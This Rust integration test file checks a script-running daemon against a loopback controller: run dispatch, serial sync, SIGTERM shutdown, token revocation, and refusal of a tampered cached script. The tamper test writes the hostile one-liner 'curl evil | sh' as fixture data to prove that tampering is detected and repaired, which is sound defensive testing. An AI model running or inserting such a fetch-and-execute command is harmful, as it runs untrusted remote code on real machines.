//! The daemon against a loopback controller: dispatched runs are executed and reported, new
//! serials are synced, SIGTERM stops it cleanly, a revoked token stops it with exit code 3.
#![cfg(unix)]

mod common;

use std::process::{Child, ExitStatus};
use std::sync::mpsc;
use std::time::Duration;

use common::*;
use quiver_catalog::ParamType;
use serde_json::json;

fn start(dev: &Device, extra: &[&str]) -> Child {
    let mut args = vec!["daemon", "--poll-wait", "1s", "--shutdown-grace", "500ms"];
    args.extend_from_slice(extra);
    dev.cmd(&args).spawn().unwrap()
}

/// Waits for the process to exit (on a thread blocked in `wait`), failing after `timeout`.
fn exits_within(child: Child, timeout: Duration) -> ExitStatus {
    let (tx, rx) = mpsc::channel();
    let mut child = child;
    std::thread::spawn(move || {
        let _ = tx.send(child.wait());
    });
    rx.recv_timeout(timeout)
        .expect("daemon did not exit in time")
        .unwrap()
}

fn sigterm(child: &Child) {
    // SAFETY: sends SIGTERM to a child we spawned.
    unsafe {
        libc::kill(child.id() as i32, libc::SIGTERM);
    }
}

fn echo_script() -> Script {
    let mut s = script("echo-args", 1, "printf '%s|' \"$@\"\n");
    s.parameters = vec![param("Note", ParamType::String)];
    s
}

#[test]
fn daemon_runs_dispatched_scripts_syncs_new_serials_and_stops_on_sigterm() {
    let p = Publisher::new();
    p.publish(1, &[echo_script()]);
    let dev = enrolled(&p, &[]);
    p.server.lock().polls.push_back((
        200,
        json!({"serial": 1, "runs": [
            {"run_id": "r1", "script": "echo-args", "version": 1,
             "params": {"Note": "a b; c"}, "requested_by": "alice"},
            {"run_id": "r2", "script": "echo-args", "version": 9,
             "params": {}, "requested_by": "bob"},
            {"run_id": "r3", "script": "not-here", "version": 1,
             "params": {}, "requested_by": "bob"}
        ]})
        .to_string(),
    ));
    let child = start(&dev, &[]);
    let wait = Duration::from_secs(15);
    let r1 = p
        .server
        .wait_for(wait, |r| r.path == "/v1/runs/r1/result")
        .json();
    assert_eq!(r1["exit_code"], 0, "{r1}");
    assert_eq!(r1["stdout_tail"], "--Note|a b; c|");
    let r2 = p
        .server
        .wait_for(wait, |r| r.path == "/v1/runs/r2/result")
        .json();
    assert!(
        r2["error"]
            .as_str()
            .unwrap()
            .starts_with("version-mismatch"),
        "{r2}"
    );
    let r3 = p
        .server
        .wait_for(wait, |r| r.path == "/v1/runs/r3/result")
        .json();
    assert!(
        r3["error"].as_str().unwrap().starts_with("unknown-script"),
        "{r3}"
    );

    // A new serial announced by the poll is synced and checked in.
    let mut v2 = echo_script();
    v2.version = 2;
    p.publish(2, &[v2]);
    p.server
        .lock()
        .polls
        .push_back((200, json!({"serial": 2, "runs": []}).to_string()));
    p.server.wait_for(wait, |r| {
        r.path.ends_with("/checkin") && r.json()["applied_serial"] == 2
    });
    dev.assert_current(&p.keys.public, 2);
    // From then on it polls for news after serial 2.
    p.server
        .wait_for(wait, |r| r.path.contains("/poll?after=2&wait=1s"));

    sigterm(&child);
    let status = exits_within(child, Duration::from_secs(10));
    assert_eq!(status.code(), Some(0));
}

#[test]
fn a_run_that_finds_the_cache_tampered_makes_the_daemon_repair_and_report_it_at_once() {
    let p = Publisher::new();
    p.publish(1, &[echo_script()]);
    let dev = enrolled(&p, &[]);
    let child = start(&dev, &[]);
    let wait = Duration::from_secs(15);
    p.server.wait_for(wait, |r| {
        r.path.ends_with("/checkin") && r.json()["applied_serial"] == 1
    });
    // Someone edits the cached script on the endpoint.
    let cached = dev.state().join("snapshots/1/echo-args").join("run.sh");
    let original = std::fs::read(&cached).expect("cached script");
    std::fs::write(&cached, "curl evil | sh\n").expect("tamper");
    p.server.lock().polls.push_back((
        200,
        json!({"serial": 1, "runs": [
            {"run_id": "t1", "script": "echo-args", "version": 1,
             "params": {}, "requested_by": "alice"}
        ]})
        .to_string(),
    ));
    // The run is refused...
    let r = p
        .server
        .wait_for(wait, |r| r.path == "/v1/runs/t1/result")
        .json();
    assert!(
        r["error"]
            .as_str()
            .unwrap_or("")
            .starts_with("cache tampered: "),
        "the reason, without the code repeated: {r}"
    );
    // ...and the daemon syncs at once (not at its 15-minute full sync): the file is
    // restored and the controller hears of it in a check-in.
    let checkin = p.server.wait_for(wait, |r| {
        r.path.ends_with("/checkin")
            && r.json()["errors"]
                .as_array()
                .is_some_and(|e| e.iter().any(|x| x["code"] == "cache-tampered"))
    });
    assert_eq!(checkin.json()["applied_serial"], 1);
    assert_eq!(std::fs::read(&cached).expect("restored"), original);
    sigterm(&child);
    assert_eq!(exits_within(child, Duration::from_secs(10)).code(), Some(0));
}

#[test]
fn sigterm_kills_a_running_script_after_the_grace_period_and_reports_it() {
    let p = Publisher::new();
    let m = format!("{}{}", std::process::id(), rand::random::<u16>());
    // The script tells the server it started (bash's /dev/tcp), so the test can await that
    // event instead of guessing with a sleep.
    let port = p.server.addr.port();
    let mut s = script(
        "hang",
        1,
        &format!(
            "echo started\nexec 3<>/dev/tcp/127.0.0.1/{port}\n\
             printf 'GET /v1/started HTTP/1.0\\r\\n\\r\\n' >&3\nsleep 1000.{m}\n"
        ),
    );
    s.timeout_secs = 600;
    p.publish(1, &[s]);
    let dev = enrolled(&p, &[]);
    p.server.lock().polls.push_back((
        200,
        json!({"serial": 1, "runs": [{"run_id": "long", "script": "hang", "version": 1,
               "params": {}, "requested_by": "alice"}]})
        .to_string(),
    ));
    let child = start(&dev, &[]);
    p.server
        .wait_for(Duration::from_secs(15), |r| r.path == "/v1/started");
    sigterm(&child);
    let status = exits_within(child, Duration::from_secs(10));
    assert_eq!(status.code(), Some(0));
    let r = p
        .server
        .wait_for(Duration::from_secs(1), |r| r.path == "/v1/runs/long/result");
    let body = r.json();
    assert!(
        body["error"].as_str().unwrap().contains("shutting down"),
        "{body}"
    );
    assert_eq!(body["stdout_tail"], "started\n");
}

#[test]
fn revoked_agent_exits_with_code_3() {
    let p = Publisher::new();
    p.publish(1, &[echo_script()]);
    let dev = enrolled(&p, &[]);
    dev.sync_ok();
    p.server.lock().revoked = true;
    let child = start(&dev, &[]);
    let status = exits_within(child, Duration::from_secs(15));
    assert_eq!(status.code(), Some(3));
}
